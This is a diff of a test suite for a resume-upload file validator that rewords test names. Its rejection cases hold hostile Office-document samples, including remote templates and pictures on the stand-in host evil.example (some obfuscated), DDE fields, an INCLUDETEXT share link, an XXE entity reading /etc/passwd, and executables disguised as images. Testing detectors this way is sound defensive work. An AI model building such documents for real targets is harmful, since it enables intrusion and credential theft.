@@ -37,33 +37,33 @@ describe("a resume's file", () => {
     ["cv.doc", sampleDoc("WordDocument", "1Table")],
     ["cv.docx", sampleDocx()],
     ["cv.doc", sampleDocx()],
-  ])("is accepted if its structure matches its name: %s", async (name, bytes) => {
+  ])("is accepted if its structure matches its extension: %s", async (name, bytes) => {
     expect(await inspect(name, bytes)).toEqual(sound);
   });
 
   it.each([
     ["Word", wordResume()],
-    ["Word with a template beside it", wordResume("Resume.dotx")],
-    ["Word with a template on its disk", wordResume("C:\\Users\\Kim\\Resume.dotx")],
-    ["Word of 2008 for Mac", wordResume("Macintosh HD:Users:kim:Resume.dotx")],
+    ["Word with a template in the same folder", wordResume("Resume.dotx")],
+    ["Word with a template on the local disk", wordResume("C:\\Users\\Kim\\Resume.dotx")],
+    ["Word 2008 for Mac", wordResume("Macintosh HD:Users:kim:Resume.dotx")],
     ["Word for Mac", macWordResume()],
     ["Pages", pagesResume()],
     ["LibreOffice", libreOfficeResume()],
     ["Google Docs", googleDocsResume()],
     ["a generator that writes UTF-16", utf16Resume()],
     ["a generator that writes backslashes", renamed(pagesResume(), "word/", "word\\")],
-    ["a transfer that adds zeros", Buffer.concat([wordResume(), Buffer.alloc(3_000)])],
-  ])("is accepted as written by %s", async (_program, bytes) => {
+    ["a transfer that appends zeros", Buffer.concat([wordResume(), Buffer.alloc(3_000)])],
+  ])("is accepted as a DOCX from %s", async (_program, bytes) => {
     expect(await inspect("cv.docx", bytes)).toEqual(sound);
   });
 
   it.each([
-    ["a byte order mark before it", Buffer.concat([Buffer.from("efbbbf", "hex"), samplePdf()])],
-    ["a line break before it", Buffer.concat([Buffer.from("\r\n"), samplePdf()])],
-    ["other bytes before it", Buffer.concat([Buffer.alloc(900, " "), samplePdf()])],
-    ["zeros after it", Buffer.concat([samplePdf(), Buffer.alloc(3_000)])],
-    ["printing not allowed", lockedPdf("rc4-128-open")],
-    ["printing not allowed by a newer program", lockedPdf("aes-256-open")],
+    ["a byte order mark at the start", Buffer.concat([Buffer.from("efbbbf", "hex"), samplePdf()])],
+    ["a line break at the start", Buffer.concat([Buffer.from("\r\n"), samplePdf()])],
+    ["other bytes at the start", Buffer.concat([Buffer.alloc(900, " "), samplePdf()])],
+    ["zeros at the end", Buffer.concat([samplePdf(), Buffer.alloc(3_000)])],
+    ["a restriction on printing, encrypted with RC4", lockedPdf("rc4-128-open")],
+    ["a restriction on printing, encrypted with AES-256", lockedPdf("aes-256-open")],
   ])("is accepted as a PDF with %s", async (_what, bytes) => {
     expect(await inspect("cv.pdf", bytes)).toEqual(sound);
   });
@@ -76,54 +76,59 @@ describe("a resume's file", () => {
       'The content of this .pdf file does not match its extension: it begins with "MZ".',
     ],
     ["an empty file", "cv.pdf", Buffer.alloc(0), "The file is empty."],
-    ["one that is too large", "cv.pdf", Buffer.alloc(10 * 1_048_576 + 1), "The file is larger than 10 MB."],
-    ["a page", "cv.html", Buffer.from("<script>"), "The file's extension is .html, not .pdf, .doc or .docx."],
-    ["half a PDF", "cv.pdf", Buffer.from("%PDF-1.7\nhalf"), "The file is a PDF that cannot be opened."],
+    ["larger than 10 MB", "cv.pdf", Buffer.alloc(10 * 1_048_576 + 1), "The file is larger than 10 MB."],
     [
-      "a PDF called DOCX",
+      "an HTML file",
+      "cv.html",
+      Buffer.from("<script>"),
+      "The file's extension is .html, not .pdf, .doc or .docx.",
+    ],
+    ["a truncated PDF", "cv.pdf", Buffer.from("%PDF-1.7\nhalf"), "The file is a PDF that cannot be opened."],
+    [
+      "a PDF with the extension .docx",
       "cv.docx",
       samplePdf(),
       'The content of this .docx file does not match its extension: it begins with "%PDF".',
     ],
-    ["RTF", "cv.doc", Buffer.from("{\\rtf1 Dear all}"), "The file is RTF, not a Word document."],
+    ["an RTF file", "cv.doc", Buffer.from("{\\rtf1 Dear all}"), "The file is RTF, not a Word document."],
     [
-      "half a DOC",
+      "a truncated DOC",
       "cv.doc",
       sampleDoc("WordDocument").subarray(0, 600),
       "The file is a DOC that cannot be opened.",
     ],
     [
-      "a workbook",
+      "an Excel workbook",
       "cv.doc",
       sampleDoc("Workbook"),
       "The file is another kind of Office file, not a Word document.",
     ],
     [
-      "half a DOCX",
+      "a truncated DOCX",
       "cv.docx",
       Buffer.concat([sampleDocx().subarray(0, 300), Buffer.from("word/")]),
       "The file is a DOCX that cannot be opened.",
     ],
     [
-      "an archive",
+      "an archive without a Word document",
       "cv.docx",
       sampleArchive({ "a.txt": Buffer.from("a") }),
       "The file is an archive, not a Word document.",
     ],
     [
-      "a slide show",
+      "a presentation",
       "cv.docx",
       sampleDocx({}, "presentationml"),
       "The file is another kind of Office file, not a Word document.",
     ],
     [
-      "one with two parts of one name",
+      "a DOCX with two parts of the same name",
       "cv.docx",
       renamed(createDocxWith({ "word/documenU.xml": createDocumentWith("") }), "documenU", "documenT"),
       "The file has two parts with the same name.",
     ],
     [
-      "one that unpacks to too much",
+      "a DOCX that unpacks to more than 100 MB",
       "cv.docx",
       sampleDocx({
         "word/media/a.bmp": Buffer.alloc(60_000_000),
@@ -164,7 +169,12 @@ describe("a resume's file", () => {
       sampleDocx({ "word/vbaProject.bin": Buffer.alloc(9) }),
       "The file contains macros.",
     ],
-    ["macros by its type", "cv.docx", sampleDocx({}, MACRO_DOCX_TYPE), "The file contains macros."],
+    [
+      "the content type of a document with macros",
+      "cv.docx",
+      sampleDocx({}, MACRO_DOCX_TYPE),
+      "The file contains macros.",
+    ],
   ])("is rejected if it has %s: %s", async (_what, path, bytes, reason) => {
     expect(await inspect(path, bytes)).toEqual(refused("active", reason));
   });
@@ -181,22 +191,22 @@ describe("a resume's file", () => {
       "The file contains an embedded object.",
     ],
     [
-      "an OLE object by the names of strict documents",
+      "an OLE object in Strict Open XML",
       { [DOCUMENT]: relationships({ type: `${STRICT}/oleObject`, target: "a.bin" }) },
       "The file contains an embedded object.",
     ],
     [
-      "a program in a package",
+      "a program as an embedded package",
       { [DOCUMENT]: relationships({ type: "package", target: "embeddings/setup.exe" }) },
       "The file contains an embedded file.",
     ],
     [
-      "an OLE container under another name",
+      "an OLE file named like a picture",
       { "word/media/image1.png": Buffer.from("d0cf11e0a1b11ae1", "hex") },
       "The file contains an embedded file.",
     ],
     [
-      "a program under another name",
+      "a program named like a picture",
       { "word/media/image1.png": Buffer.from("MZ\x90") },
       "The file contains an embedded file.",
     ],
@@ -216,47 +226,47 @@ describe("a resume's file", () => {
       "The file contains an ActiveX control.",
     ],
     [
-      "macros under another name",
+      "macros in a part with another name",
       { [DOCUMENT]: relationships({ type: `${MICROSOFT}/vbaProject`, target: "a.bin" }) },
       "The file contains macros.",
     ],
     [
-      "a document in it",
+      "an embedded document",
       { [DOCUMENT]: relationships({ type: "aFChunk", target: "a.rtf" }) },
       "The file contains an embedded file.",
     ],
     [
-      "a template of a web server",
+      "a template on a web server",
       { [SETTINGS]: externalRelationship("attachedTemplate", "https://evil.example/a.dotm") },
       elsewhere("a template"),
     ],
     [
-      "a template of a share",
+      "a template on a network share",
       { [SETTINGS]: externalRelationship("attachedTemplate", "\\\\evil.example\\a\\a.dotm") },
       elsewhere("a template"),
     ],
     [
-      "a template of a share, by file:",
+      "a template on a network share, with a file: URL",
       { [SETTINGS]: externalRelationship("attachedTemplate", "file:///\\\\evil.example\\a.dotm") },
       elsewhere("a template"),
     ],
     [
-      "a template of a host",
+      "a template with the file: URL of another host",
       { [SETTINGS]: externalRelationship("attachedTemplate", "file://evil.example/a.dotm") },
       elsewhere("a template"),
     ],
     [
-      "a template that hides its address",
+      "a template whose URL has a leading space and a character reference",
       { [SETTINGS]: externalRelationship("attachedTemplate", " &#x68;ttps://evil.example/a.dotm") },
       elsewhere("a template"),
     ],
     [
-      "a template that encodes its address",
+      "a template whose URL is percent-encoded",
       { [SETTINGS]: externalRelationship("attachedTemplate", "file:///%5C%5Cevil.example%5Ca.dotm") },
       elsewhere("a template"),
     ],
     [
-      "a template whose part is written otherwise",
+      "a template in a UTF-16 part with a namespace prefix",
       {
         [SETTINGS]: Buffer.from(
           `\ufeff${externalRelationship("attachedTemplate", "http://evil.example/a")
@@ -270,28 +280,32 @@ describe("a resume's file", () => {
       elsewhere("a template"),
     ],
     [
-      "a picture of a web server",
+      "a picture on a web server",
       { [DOCUMENT]: externalRelationship("image", "http://evil.example/a.png") },
       elsewhere("a picture"),
     ],
     [
-      "a picture of a share",
+      "a picture on a network share",
       { [DOCUMENT]: externalRelationship("image", "\\\\evil.example\\a.png") },
       elsewhere("a picture"),
     ],
     [
-      "an OLE object elsewhere",
+      "a linked OLE object",
       { [DOCUMENT]: externalRelationship("oleObject", "file:///C:\\a.docx") },
       "The file contains an embedded object.",
     ],
     [
-      "a frame",
+      "a frame with a document on a network share",
       { "word/_rels/webSettings.xml.rels": externalRelationship("frame", "\\\\evil.example\\a.docx") },
       elsewhere("content"),
     ],
-    ["a subdocument", { [DOCUMENT]: externalRelationship("subDocument", "a.docx") }, elsewhere("content")],
     [
-      "a picture of a share in an older drawing",
+      "a linked subdocument",
+      { [DOCUMENT]: externalRelationship("subDocument", "a.docx") },
+      elsewhere("content"),
+    ],
+    [
+      "a VML drawing with a picture on a network share",
       {
         "word/header1.xml": createDocumentWith(
           '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\evil.example\\a.png"/>',
@@ -309,12 +323,12 @@ describe("a resume's file", () => {
       "The file contains a field that loads data from other programs (DDEAUTO).",
     ],
     [
-      "a DDE field in pieces",
+      "a DDE field split into pieces",
       { "word/footer1.xml": createDocumentWith(field(" D", "D", "<!-- -->E", " excel ")) },
       "The file contains a field that loads data from other programs (DDE).",
     ],
     [
-      "a DDE field in one element",
+      "a DDE field in a fldSimple element",
       { "word/document.xml": createDocumentWith("<w:fldSimple w:instr='DDE excel \"a\"'/>") },
       "The file contains a field that loads data from other programs (DDE).",
     ],
@@ -328,7 +342,7 @@ describe("a resume's file", () => {
       "The file contains a field that loads data from other programs (dde).",
     ],
     [
-      "a text of a share",
+      "a field that includes text from a network share",
       {
         "word/document.xml": createDocumentWith(
           field(" INCLUDETEXT &quot;\\\\\\\\evil.example\\\\a.docx&quot; "),
@@ -337,26 +351,26 @@ describe("a resume's file", () => {
       "The file contains a field that loads content from the network.",
     ],
     [
-      "entities in a part",
+      "XML entities in a part",
       {
         "word/document.xml": Buffer.from('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
       },
       "The file declares XML entities, which word processors never write.",
     ],
     [
-      "entities in the list of its parts",
+      "XML entities in [Content_Types].xml",
       {
         "[Content_Types].xml": Buffer.from('<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "b">]><Types/>'),
       },
       "The file declares XML entities, which word processors never write.",
     ],
     [
-      "entities in a part in UTF-16",
+      "XML entities in a UTF-16 part",
       { "word/styles.xml": Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY b "c">]><a/>', "utf16le") },
       "The file declares XML entities, which word processors never write.",
     ],
     [
-      "entities in a part of another name",
+      "XML entities in a part with another extension",
       { "word/a.dat": Buffer.from('  <!DOCTYPE a [<!ENTITY b "c">]><a/>') },
       "The file declares XML entities, which word processors never write.",
     ],
